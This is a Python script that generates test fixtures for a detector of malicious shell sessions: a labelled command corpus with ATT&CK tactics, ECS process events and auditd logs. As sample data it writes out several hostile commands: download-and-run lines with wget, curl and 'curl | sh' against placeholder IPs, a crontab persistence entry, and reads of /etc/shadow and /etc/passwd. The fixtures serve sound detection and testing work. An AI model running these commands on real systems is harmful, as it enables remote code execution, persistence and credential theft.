"""Writes the small session fixtures the tests read (python3 make_fixtures.py; deterministic, no dependencies).

corpus.csv            a labelled session corpus in the train-sessions schema: 6 families x 3 sessions, 2 families held out as test
sessions-ecs.ndjson   ECS process events of two sessions (process.session_leader.entity_id), one broken line, one event without a command
sessions-audit.log    raw auditd: two login sessions (ses=7, ses=8) interleaved, execve events with EXECVE + PROCTITLE
"""
import csv, json

FAMILIES = {
    # family: (split, [(command, [(statement, tactic, technique)])])
    "recon-cpu": ("train", [
        ("cat /proc/cpuinfo | grep name | wc -l", [("cat /proc/cpuinfo", "discovery", "T1082"), ("grep name", "discovery", "T1082"), ("wc -l", "discovery", "T1082")]),
        ("uname -a", [("uname -a", "discovery", "T1082")]),
        ("wget http://{ip}/x -O /tmp/x; chmod +x /tmp/x; /tmp/x", [("wget http://{ip}/x -O /tmp/x", "command-and-control", "T1105"), ("chmod +x /tmp/x", "execution", "T1059"), ("/tmp/x", "execution", "T1059")]),
    ]),
    "persist-cron": ("train", [
        ("id", [("id", "discovery", "T1033")]),
        ("curl -s http://{ip}/s.sh -o /tmp/s.sh", [("curl -s http://{ip}/s.sh -o /tmp/s.sh", "command-and-control", "T1105")]),
        ("(crontab -l; echo '* * * * * /tmp/s.sh') | crontab -", [("(crontab -l", "persistence", "T1053"), ("echo '* * * * * /tmp/s.sh')", "persistence", "T1053"), ("crontab -", "persistence", "T1053")]),
    ]),
    "admin-apt": ("train", [
        ("sudo apt-get update", [("sudo apt-get update", "benign", "")]),
        ("sudo apt-get install -y nginx", [("sudo apt-get install -y nginx", "benign", "")]),
        ("systemctl status nginx | head -5", [("systemctl status nginx", "benign", ""), ("head -5", "benign", "")]),
    ]),
    "dev-git": ("train", [
        ("cd ~/src/app && git pull", [("cd ~/src/app", "benign", ""), ("git pull", "benign", "")]),
        ("make test", [("make test", "benign", "")]),
        ("git log --oneline | head -3", [("git log --oneline", "benign", ""), ("head -3", "benign", "")]),
    ]),
    "recon-users": ("test", [
        ("cat /etc/passwd | cut -d: -f1", [("cat /etc/passwd", "discovery", "T1087"), ("cut -d: -f1", "discovery", "T1087")]),
        ("wget http://{ip}/m -O /tmp/m && chmod +x /tmp/m && /tmp/m", [("wget http://{ip}/m -O /tmp/m", "command-and-control", "T1105"), ("chmod +x /tmp/m", "execution", "T1059"), ("/tmp/m", "execution", "T1059")]),
    ]),
    "admin-logs": ("test", [
        ("sudo journalctl -u nginx | tail -20", [("sudo journalctl -u nginx", "benign", ""), ("tail -20", "benign", "")]),
        ("df -h", [("df -h", "benign", "")]),
    ]),
}

def corpus(path):
    header = ["session_id", "split", "family", "source", "host", "user", "timestamp", "command_index", "command",
              "statement_index", "statement", "tactic", "technique"]
    with open(path, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(header)
        n = 0
        for family, (split, commands) in FAMILIES.items():
            for variant in range(3):
                n += 1
                ip = f"203.0.113.{10 + variant}"
                for c, (command, statements) in enumerate(commands):
                    ts = f"2026-01-0{variant + 1}T10:00:{c * 7:02d}Z"
                    for s, (statement, tactic, technique) in enumerate(statements):
                        w.writerow([f"s{n:03d}", split, family, "fixture", f"host-{variant}", "alice", ts, c,
                                    command.format(ip=ip), s, statement.format(ip=ip), tactic, technique])

def ecs(path):
    events = [
        ("2026-01-05T09:00:01Z", "web-01", "www-data", "L1", "id"),
        ("2026-01-05T09:00:02Z", "db-01", "postgres", "L2", "psql -c 'select 1'"),
        ("2026-01-05T09:00:03Z", "web-01", "www-data", "L1", "cat /proc/cpuinfo | grep name | wc -l"),
        ("2026-01-05T09:00:05Z", "web-01", "www-data", "L1", "wget http://203.0.113.9/x -O /tmp/x; chmod +x /tmp/x; /tmp/x"),
        ("2026-01-05T09:00:04Z", "db-01", "postgres", "L2", "pg_dump app > /var/backups/app.sql"),
    ]
    with open(path, "w", encoding="utf-8") as f:
        for ts, host, user, leader, command in events:
            f.write(json.dumps({"@timestamp": ts, "host": {"name": host}, "user": {"name": user},
                                "process": {"command_line": command, "session_leader": {"entity_id": leader}}}) + "\n")
        f.write('{"@timestamp": "2026-01-05T09:00:06Z", "process": {"command_line": \n')          # broken JSON
        f.write(json.dumps({"@timestamp": "2026-01-05T09:00:07Z", "host": {"name": "web-01"}, "process": {"pid": 4}}) + "\n")  # no command

def audit(path):
    lines = []
    def event(t, serial, ses, uid, name, argv):
        head = f'node=srv-02 type=SYSCALL msg=audit({t}:{serial}): arch=c000003e syscall=59 success=yes exit=0 ppid=100 pid={serial} auid={uid} uid={uid} ses={ses} tty=pts{ses} comm="{argv[0]}" exe="/usr/bin/{argv[0]}" key="exec"UID="{name}"'
        args = " ".join(f'a{i}="{a}"' for i, a in enumerate(argv))
        title = " ".join(argv).encode().hex().upper()
        return [head, f'node=srv-02 type=EXECVE msg=audit({t}:{serial}): argc={len(argv)} {args}',
                f'node=srv-02 type=PROCTITLE msg=audit({t}:{serial}): proctitle={title}', f'node=srv-02 type=EOE msg=audit({t}:{serial}): ']
    lines += event("1767600000.100", 501, 7, 1000, "alice", ["whoami"])
    lines += event("1767600001.200", 502, 8, 1001, "bob", ["ls", "-la"])
    lines += event("1767600002.300", 503, 7, 1000, "alice", ["cat", "/etc/shadow"])
    lines.append("node=srv-02 type=SYSCALL msg=audit(garbage")                                      # malformed record
    lines += event("1767600003.400", 504, 7, 1000, "alice", ["sh", "-c", "curl -s http://203.0.113.5/k | sh"])
    with open(path, "w", encoding="utf-8") as f:
        f.write("\n".join(lines) + "\n")

corpus("corpus.csv")
ecs("sessions-ecs.ndjson")
audit("sessions-audit.log")
